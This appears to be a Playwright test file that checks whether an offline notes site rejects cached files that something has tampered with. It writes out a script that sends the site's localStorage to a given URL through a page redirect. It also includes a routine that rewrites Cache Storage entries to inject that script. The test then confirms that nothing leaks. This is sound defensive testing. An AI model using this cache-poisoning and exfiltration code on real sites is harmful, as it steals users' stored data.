/** Another site of the same host, which frames the sandbox's page as any page may, and what is kept on the device. */
import type { Page } from '@playwright/test';
import { type Server, serve } from '../../scripts/serve.ts';
import { counting } from './counting.ts';
import { expect, Figure, test as plain } from './site.ts';

/** A site of the test's own, whose server it can end. */
const test = plain.extend<{ own: Server }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of the fixtures from this pattern
  own: async ({}, use) => {
    const server = await serve({ port: 0 });
    await use(server);
    await server.close().catch(() => undefined);
  },
});

test.use({ expectedErrors: [/ERR_CONNECTION_REFUSED|ERR_FAILED|Failed to (?:load|fetch)|net::ERR/] });

const PAGE = 'gradient-descent/';

/** A script that carries off what the site has on the device, by the one way that no policy bars. */
const leak = (where: string): string =>
  `location.href = ${JSON.stringify(where)} + '?' + encodeURIComponent(JSON.stringify(localStorage));`;

/** A function that puts this script into every kept file whose path ends so, and gives how many those were. */
const REWRITE = `async (leak, ending) => {
  let count = 0;
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const { url } of await cache.keys()) {
      const { pathname, search } = new URL(url);
      if (!pathname.endsWith(ending) || !search.startsWith('?kept=')) continue;
      const [type, text] = pathname.endsWith('/') ? ['text/html', '<script>' + leak + '</script>'] : ['text/javascript', leak];
      await cache.put(url, new Response(text, { headers: { 'content-type': type } }));
      count += 1;
    }
  }
  return count;
}`;

async function keep(page: Page, site: string): Promise<void> {
  await page.goto(`${site}offline/`);
  await page.getByRole('button', { name: 'Keep 6.1' }).click();
  await expect(page.getByRole('status')).toContainText('kept. It opens and runs', { timeout: 60_000 });
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.evaluate(() => localStorage.setItem('answers', 'of a student'));
}

test.describe('a kept file that something has rewritten', () => {
  /** As a script would that has come into the site by a way that nobody knows yet. */
  const rewrite = (page: Page, where: string, ending: string): Promise<unknown> =>
    page.evaluate(`(${REWRITE})(${JSON.stringify(leak(where))}, ${JSON.stringify(ending)})`);

  test('is not used; the reader is told, and keeps the page again', async ({ page, own }) => {
    await counting(async (server) => {
      await keep(page, own.address);
      expect(await rewrite(page, server.where, '.js')).toBeGreaterThan(50);
      expect(await rewrite(page, server.where, '/')).toBeGreaterThan(1);
      await page.goto(own.address + PAGE);
      await page.waitForTimeout(3000);
      expect(server.count()).toBe(0);
      await new Figure(page, 'gabor-descent').live();
      const bar = page.locator('.newer');
      await expect(bar).toContainText('were changed by something other than the notes');
      await bar.getByRole('link', { name: 'What is kept' }).click();
      const row = page.getByRole('row', { name: /6\.1/ });
      await expect(row).toContainText('not whole');
      await row.getByRole('button', { name: 'Keep 6.1' }).click();
      await expect(page.getByRole('status')).toContainText('kept. It opens and runs', { timeout: 60_000 });
      await own.close();
      await page.goto(own.address + PAGE);
      await new Figure(page, 'gabor-descent').live();
      expect(server.count()).toBe(0);
    });
  });
});
